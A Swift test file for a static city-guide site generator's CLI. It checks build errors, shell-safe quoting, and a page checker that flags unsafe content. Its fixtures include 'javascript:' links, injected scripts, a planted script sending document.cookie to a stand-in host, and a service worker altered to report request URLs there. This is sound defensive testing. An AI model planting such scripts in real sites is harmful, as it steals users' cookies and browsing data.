import Foundation
import GuideRender
import GuideValidate
import XCTest

/// Runs the real `cityguide` executable: exit codes and messages are the contract nightly jobs rely on.
final class CLITests: XCTestCase {
    func cityguide(_ arguments: [String], in directory: URL) throws -> CLIRun {
        try runCityguide(arguments, in: directory)
    }

    func testBuildThenCheck() throws {
        let site = try TestSite(config: smallConfig)
        defer { site.remove() }
        let build = try cityguide(["build", "--date", "2026-11-20"], in: site.dir)
        XCTAssertEqual(build.status, 0, build.stderr)
        XCTAssertTrue(build.stdout.hasPrefix("Built 1 city, "), build.stdout)
        let check = try cityguide(["check", "Output"], in: site.dir)
        XCTAssertEqual(check.status, 0, check.stderr)
        XCTAssertTrue(check.stdout.hasPrefix("Checked "), check.stdout)
    }

    func testTheSuggestedCheckCommandWorksWhenPastedForAnyFolderName() throws {
        let site = try TestSite(config: smallConfig)
        defer { site.remove() }
        let build = try cityguide(["build", "--date", "2026-11-20", "--output", "My Site's"], in: site.dir)
        XCTAssertEqual(build.status, 0, build.stderr)
        // It once printed `cityguide check My Site's`, which a shell reads as two words and an open quote.
        let command = try XCTUnwrap(build.stdout.firstMatch(of: /`(cityguide check [^`]+)`/)?.1, build.stdout)
        XCTAssertEqual(command, #"cityguide check 'My Site'\''s'"#)
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/sh")
        shell.arguments = ["-c", "\"$0\"" + command.dropFirst("cityguide".count), try builtCityguide().path]
        shell.currentDirectoryURL = site.dir
        let out = Pipe()
        shell.standardOutput = out
        try shell.run()
        let printed = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        shell.waitUntilExit()
        XCTAssertEqual(shell.terminationStatus, 0)
        XCTAssertTrue(printed.hasPrefix("Checked ") && printed.contains("in My Site's: no problems"), printed)
    }

    func testConfigErrorIsOneClearMessage() throws {
        let site = try TestSite(
            config: smallConfig.replacingOccurrences(of: "max_results: 10", with: "max_results: 100"))
        defer { site.remove() }
        let run = try cityguide(["build"], in: site.dir)
        XCTAssertEqual(run.status, 1)
        XCTAssertEqual(
            run.stderr, "site.yaml:5:25: error: 'max_results' is 100, outside 1–50\n  fix: use a number from 1 to 50\n")
        XCTAssertEqual(run.stdout, "")
        XCTAssertFalse(FileManager.default.fileExists(atPath: site.output.path))
    }

    func testBadDateAndMissingConfig() throws {
        let site = try TestSite(config: smallConfig)
        defer { site.remove() }
        let date = try cityguide(["build", "--date", "2026-02-30"], in: site.dir)
        XCTAssertEqual(date.status, 1)
        XCTAssertEqual(
            date.stderr,
            "error: --date '2026-02-30' is not a date\n  fix: write it as YYYY-MM-DD, e.g. --date 2026-11-20\n")
        let missing = try cityguide(["build", "--config", "nope.yaml"], in: site.dir)
        XCTAssertEqual(missing.status, 1)
        XCTAssertTrue(missing.stderr.hasPrefix("nope.yaml:1:1: error: cannot read the config file"), missing.stderr)
    }

    func testCheckFindsProblems() throws {
        let site = try TestSite(config: smallConfig)
        defer { site.remove() }
        XCTAssertEqual(try cityguide(["build"], in: site.dir).status, 0)
        try site.write("Output/san-francisco/index.html", "<html><body><a href=\"javascript:alert(1)\">x</a>")
        try site.write(
            "Output/san-francisco/coffee/index.html",
            """
            <!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><meta charset="utf-8"/><title>t</title></head>
            <body><h1>x</h1><a href="javascript:alert(1)">x</a><a href="../missing/index.html">y</a><img src="a.png"/>
            <p id="a"/><p id="a"/></body></html>
            """)
        // A sitemap is read as a stream (it lists every page of a large site): its errors are found all the same.
        try site.write("Output/sitemap.xml", "<urlset>\n<url><loc>https://example.org/?a=1&b=2</loc></url></urlset>")
        let run = try cityguide(["check", "Output"], in: site.dir)
        XCTAssertEqual(run.status, 1)
        let lines = run.stderr.split(separator: "\n").map(String.init)
        XCTAssertEqual(
            lines,
            [
                "Output/san-francisco/coffee/index.html:3: the id 'a' is used twice (first on line 3)",
                "  fix: give each element its own id; a template used twice on one page must not set a fixed id",
                "Output/san-francisco/coffee/index.html: the page has no Content-Security-Policy <meta>",
                "  fix: cityguide starts every page's <head> with its policy; check the layout template against "
                    + "cityguide's and `hosting: {content_security_policy: …}`",
                "Output/san-francisco/coffee/index.html:2: an image has no alt text",
                "  fix: add alt=\"…\" describing the image (alt=\"\" if decorative)",
                "Output/san-francisco/coffee/index.html:2: the link 'javascript:alert(1)' uses the scheme 'javascript', which pages must not use",
                "  fix: link only to http(s), tel:, mailto: and geo: addresses and to pages of the site",
                "Output/san-francisco/coffee/index.html:2: the link '../missing/index.html' leads to a file that does not exist",
                "  fix: correct the link, or add the file to the site",
                "Output/san-francisco/coffee/index.html:2: the link 'a.png' leads to a file that does not exist",
                "  fix: correct the link, or add the file to the site",
                "Output/san-francisco/index.html:1: not well-formed XML: Premature end of data in tag body line 1",
                "  fix: if you edited the templates, close every element they open and escape & and < in text",
                "Output/sitemap.xml:2: not well-formed XML: EntityRef: expecting ';'",
                "  fix: if you edited the templates, close every element they open and escape & and < in text",
                "Checked 8 pages (41 files) in Output: 8 problems.",
            ])
    }

    /// What a reviewer would catch: code in a page, a link to a #fragment that is not there, a skipped heading.
    func testCheckFindsScriptsHandlersFragmentsAndSkippedHeadings() throws {
        let site = try TestSite(config: smallConfig)
        defer { site.remove() }
        XCTAssertEqual(try cityguide(["build"], in: site.dir).status, 0)
        try site.write(
            "Output/san-francisco/tea/index.html",
            """
            <!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><meta charset="utf-8"/><title>t</title><meta http-equiv="Content-Security-Policy" content="\(PagePolicy.site)"/></head>
            <body><h1 id="top">x</h1><h3>skipped</h3>
            <script>alert(1)</script><svg xmlns="http://www.w3.org/2000/svg"><title>s</title><script>x()</script></svg><script src="../../assets/saved.js"></script><script src="https://cdn.example.com/x.js"></script><script src="../../assets/saved.js">x()</script>
            <p onclick="x()" OnMouseOver="y()">p</p>
            <a href="../index.html#no-such-id">a</a><a href="../coffee/index.html#content">b</a><a href="#top">c</a></body></html>
            """)
        let run = try cityguide(["check", "Output"], in: site.dir)
        XCTAssertEqual(run.status, 1)
        let lines = run.stderr.split(separator: "\n").map(String.init)
        for expected in [
            "Output/san-francisco/tea/index.html:2: <h3> follows <h1>: a heading level is skipped",
            "  fix: use <h2> here, or add the missing level above it",
            "Output/san-francisco/tea/index.html:3: a <script> element with code in the page or from elsewhere",
            "  fix: remove it from the template; the only script a page may load is one of the site's assets/*.js",
            "Output/san-francisco/tea/index.html:4: the event-handler attribute onclick=\"…\" runs code",
            "Output/san-francisco/tea/index.html:4: the event-handler attribute OnMouseOver=\"…\" runs code",
            "Output/san-francisco/tea/index.html:5: the link '../index.html#no-such-id' points at #no-such-id, which is not on san-francisco/index.html",
            "  fix: link to an id that page has, or drop the #fragment",
        ] {
            XCTAssertTrue(lines.contains(expected), "missing: \(expected)\n\(run.stderr)")
        }
        XCTAssertEqual(
            lines.filter { $0.contains("<script>") }.count, 6,
            "the HTML and SVG code, the remote script and code beside a src, the remote script's load and the "
                + "SVG script element; the site's own saved.js is fine")
        XCTAssertFalse(run.stderr.contains("#content"), "an id the other page has is fine")
        XCTAssertEqual(lines.last, "Checked 8 pages (41 files) in Output: 10 problems.", run.stderr)
    }

    /// The scripts a page may load are exactly the site's own (saved places, open now, near me), as cityguide wrote
    /// them: another file of the assets, or an edited copy of one of them, is refused.
    func testCheckAllowsExactlyTheSitesOwnScripts() throws {
        let site = try TestSite.smallWithCoffee()
        defer { site.remove() }
        XCTAssertEqual(try cityguide(["build"], in: site.dir).status, 0)
        let clean = try cityguide(["check", "Output"], in: site.dir)
        XCTAssertEqual(clean.status, 0, clean.stderr)
        let assets = try FileManager.default.contentsOfDirectory(
            atPath: site.dir.appendingPathComponent("Output/assets").path)
        XCTAssertEqual(
            Set(assets.filter { $0.hasSuffix(".js") }.map { String($0.prefix { $0 != "." }) }), SiteChecker.ownScripts,
            "the site writes each of its own scripts and no other")
        let page = try String(
            contentsOf: site.dir.appendingPathComponent("Output/san-francisco/coffee/index.html"), encoding: .utf8)
        XCTAssertTrue(page.contains("assets/near."), "a list loads near me")

        let worker = try String(contentsOf: site.dir.appendingPathComponent("Output/sw.js"), encoding: .utf8)
        XCTAssertTrue(
            worker.hasPrefix("\"use strict\";\nvar VERSION = \""), "the site's service worker, under its version")

        try site.write("Output/assets/track.js", "navigator.sendBeacon('https://x.example/', document.cookie)")
        // A worker answers for every page: one that also reports them elsewhere is refused.
        try site.write(
            "Output/sw.js", worker + "self.addEventListener('fetch', e => fetch('https://x.example/' + e.request.url));"
        )
        try site.write(
            "Output/assets/saved.js",
            try String(contentsOf: site.dir.appendingPathComponent("Output/assets/saved.js"), encoding: .utf8) + "x()")
        try site.write(
            "Output/san-francisco/coffee/index.html",
            page.replacingOccurrences(of: "</main>", with: "<script src=\"../../assets/track.js\"></script></main>"))
        let run = try cityguide(["check", "Output"], in: site.dir)
        XCTAssertEqual(run.status, 1)
        for expected in [
            "Output/assets/saved.js: this is not cityguide's own saved.js (its bytes differ)",
            "Output/assets/track.js: a script that is not one of cityguide's own",
            "Output/sw.js: this is not cityguide's own service worker (its bytes differ from what a build writes)",
            "the script assets/track.js is not one of cityguide's own",
            "  fix: remove it from the template; the only scripts a page may load are assets/find.js, assets/hours.js, "
                + "assets/list.js, assets/near.js, assets/offline.js, assets/saved.js",
        ] {
            XCTAssertTrue(run.stderr.contains(expected), "missing: \(expected)\n\(run.stderr)")
        }
        XCTAssertTrue(run.stderr.hasSuffix("4 problems.\n"), run.stderr)
    }

    func testHelp() throws {
        let run = try cityguide(["build", "--help"], in: FileManager.default.temporaryDirectory)
        XCTAssertEqual(run.status, 0)
        XCTAssertTrue(run.stdout.contains("--config <config>"), run.stdout)
        XCTAssertTrue(run.stdout.contains("--date <date>"), run.stdout)
        XCTAssertEqual(try cityguide(["check", "--help"], in: FileManager.default.temporaryDirectory).status, 0)
    }
}
